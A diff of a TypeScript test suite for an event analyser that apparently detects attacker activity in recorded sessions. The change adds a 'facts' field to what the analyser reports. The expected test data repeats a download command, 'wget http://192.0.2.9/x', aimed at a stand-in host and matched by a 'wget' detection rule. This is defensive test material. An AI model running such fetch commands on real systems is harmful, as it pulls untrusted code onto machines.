@@ -68,7 +68,7 @@ function bed(more: Partial<AnalysisParts> = {}, log: Log = silentLog) {
     await records.apply(events, {});
     if (insights) kept.push(insights);
   };
-  const taken: { event: WeirEvent; rules: string[]; input: string | undefined }[] = [];
+  const taken: { event: WeirEvent; rules: string[]; input: string | undefined; facts: string[] }[] = [];
   const restored: string[][] = [];
   const remembered: string[][] = [];
   const told: boolean[] = [];
@@ -90,8 +90,13 @@ function bed(more: Partial<AnalysisParts> = {}, log: Log = silentLog) {
       };
     },
     createBehaviours: () => ({
-      take: (event, hits = [], view) =>
-        taken.push({ event, rules: hits.map(({ rule }) => rule), input: view && text(view.input) }),
+      take: (event, hits = [], view, facts = []) =>
+        taken.push({
+          event,
+          rules: hits.map(({ rule }) => rule),
+          input: view && text(view.input),
+          facts: facts.map(({ value }) => value),
+        }),
       flush: (all) => {
         told.push(all === true);
         return [verdict('192.0.2.1')];
@@ -145,13 +150,13 @@ describe('Analyser', () => {
     );
     assert.deepEqual([second.insights.families, second.insights.places], [[], []]);
     assert.deepEqual(
-      taken.map(({ event, rules, input }) => [event.kind, rules.join(), input]),
+      taken.map(({ event, rules, input, facts }) => [event.kind, rules.join(), input, facts.join()]),
       [
-        ['session', 'wget', 'wget http://192.0.2.9/x'],
-        ['session', '', undefined],
-        ['session', '', ''],
-        ['probe', '', undefined],
-        ['session', 'wget', 'wget http://192.0.2.9/x'],
+        ['session', 'wget', 'wget http://192.0.2.9/x', 'wget http://192.0.2.9/x'],
+        ['session', '', undefined, ''],
+        ['session', '', '', ''],
+        ['probe', '', undefined, ''],
+        ['session', 'wget', 'wget http://192.0.2.9/x', 'wget http://192.0.2.9/x'],
       ],
     );
     const { sessions, matched, rules, held } = analyser.status();
@@ -208,10 +213,10 @@ describe('Analyser', () => {
     assert.deepEqual(restored, [[], ['w']]);
     assert.deepEqual(remembered, [['192.0.2.1']]);
     assert.deepEqual(
-      taken.map(({ event, rules }) => [event.kind, rules.join()]),
+      taken.map(({ event, rules, facts }) => [event.kind, rules.join(), facts.join()]),
       [
-        ['probe', ''],
-        ['session', 'wget'],
+        ['probe', '', ''],
+        ['session', 'wget', 'wget http://192.0.2.9/x'],
       ],
     );
     const again = await analyser.analyse([eventOf(wget(1))]);
